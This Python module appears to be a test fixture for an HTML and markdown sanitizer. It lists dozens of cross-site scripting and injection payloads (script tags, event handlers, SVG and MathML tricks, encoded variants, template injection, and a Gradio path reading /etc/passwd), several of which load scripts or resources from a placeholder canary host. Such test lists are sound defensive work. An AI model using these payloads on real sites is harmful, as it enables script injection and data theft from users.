"""Texts that would run, load or lead elsewhere if any page took them for markup; CANARY stands for a host to reach."""

from __future__ import annotations

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=CANARY/a.js></sCrIpT>",
    "<script/src='CANARY/b.js'></script >",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</script><script>alert(4)//",
    "<script>import('CANARY/c.js')</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
)
_HANDLERS = (
    "<img src=x onerror=alert(6)>",
    "<img src='CANARY/d.png' onload='alert(7)'>",
    "<body onload=alert(8)>",
    "<input autofocus onfocus=alert(9)>",
    "<details open ontoggle=alert(10)>",
    "<video><source onerror=alert(11)></video>",
    "<audio src=CANARY/e.mp3 autoplay>",
    "<b onmouseover=alert(12)>hover</b>",
    "<img\tsrc\n=x\fonerror\r=alert(13)>",
    "<img src=x:x onerror=&#97;lert(14)>",
)
_FOREIGN_LANGUAGES = (
    "<svg onload=alert(15)>",
    "<svg><script>alert(16)</script></svg>",
    "<svg><image href='CANARY/f.png'></image></svg>",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(18)'><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(20)'>press</math>",
)
_FRAMES = (
    "<iframe src=CANARY/g.html></iframe>",
    "<iframe srcdoc='<script>alert(21)</script>'></iframe>",
    "<object data=CANARY/h.swf></object>",
    "<embed src=CANARY/i.swf>",
    "<meta http-equiv=refresh content='0;url=CANARY/j.html'>",
    "<base href=CANARY/>",
    "<form action=CANARY/k><button>send</button></form>",
    "<button formaction='javascript:alert(22)'>press</button>",
    "<link rel=stylesheet href=CANARY/l.css>",
    "<link rel=preload as=image href=CANARY/m.png>",
)
_STYLES = (
    "<style>@import 'CANARY/n.css';</style>",
    "<div style='background:url(CANARY/o.png)'>x</div>",
    "<p style=position:fixed;inset:0>over everything</p>",
)
_ADDRESSES = (
    "<a href='javascript:alert(23)'>press</a>",
    "<a href=' &#1;java&#10;script:alert(24)'>press</a>",
    "<a href='data:text/html,<script>alert(25)</script>'>press</a>",
    "<a href='vbscript:msgbox(26)'>press</a>",
    "javascript:alert(27)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=",
)
_BREAKOUTS = (
    '" onmouseover=alert(29) x="',
    "' autofocus onfocus=alert(30) x='",
    "` onerror=alert(31) x=`",
    '"><img src=CANARY/p.png>',
    "'><svg/onload=alert(32)>",
    "--><img src=x onerror=alert(33)>",
    "]]><script>alert(34)</script>",
    "\\u003cimg src=x onerror=alert(35)\\u003e",
    "&lt;img src=x onerror=alert(36)&gt;",
    "&#60;script&#62;alert(37)&#60;/script&#62;",
)
_ENCODINGS = (
    "+ADw-script+AD4-alert(38)+ADw-/script+AD4-",
    "＜script＞alert(39)＜/script＞",
    "\x3cimg\x0bsrc=x\x0conerror=alert(40)\x3e",
    "\u202e<img src=x onerror=alert(41)>\u202c",
    "\u2028<img src=x onerror=alert(42)>\u2029",
    "%3Cscript%3Ealert(43)%3C/script%3E",
)
_TRICKS = (
    "<template><img src=x onerror=alert(44)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(45)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(46)>'></xmp>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(47)>",
    "<a id=words data-copied=x><a id=words name=dataset>",
    "<div class=turn id=turn-1><button class=put>What is AIRCOP?</button></div>",
)
_MARKDOWN = (
    "![picture](CANARY/q.png)",
    "[press](javascript:alert(48))",
    "[press](CANARY/r)",
    "[press][far]\n\n[far]: CANARY/s 'title'",
    "<CANARY/t>",
    "![picture][far]\n\n[far]: CANARY/u.png",
    "# <img src=x onerror=alert(49)>",
    "```html\n<img src=x onerror=alert(50)>\n```",
    "```mermaid\ngraph TD; a[<img src=x onerror=alert(51)>]\n```",
    "\n\n</section>\n\n<img src=CANARY/v.png>\n\n",
    "| <img src=x onerror=alert(52)> |\n| --- |",
)
_LANGUAGES_OF_TOOLS = (
    "$$\\href{javascript:alert(53)}{press}$$ \\(\\includegraphics{CANARY/w.png}\\)",
    "{{7*7}} {% debug %} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
    "{{constructor.constructor('alert(54)')()}}",
    "<gradio-app src=CANARY/x></gradio-app>",
    "<script type=module src=/gradio_api/file=/etc/passwd></script>",
    "/gradio_api/file=CANARY/y ![](/gradio_api/proxy=CANARY/z)",
)
_UNCLOSED = (
    "<img src=x onerror=alert(55)//",
    "<a href=CANARY/",
    "<img src='CANARY/1?",
    "<textarea>",
    "<plaintext>",
    "<!--",
)

CLASSES = (
    *(_SCRIPTS, _HANDLERS, _FOREIGN_LANGUAGES, _FRAMES, _STYLES, _ADDRESSES, _BREAKOUTS, _ENCODINGS),
    *(_TRICKS, _MARKDOWN, _LANGUAGES_OF_TOOLS, _UNCLOSED),
)


def payloads(canary: str) -> list[str]:
    """Every text, with the address of a host that must never be reached."""
    return [one.replace("CANARY", canary) for group in CLASSES for one in group]
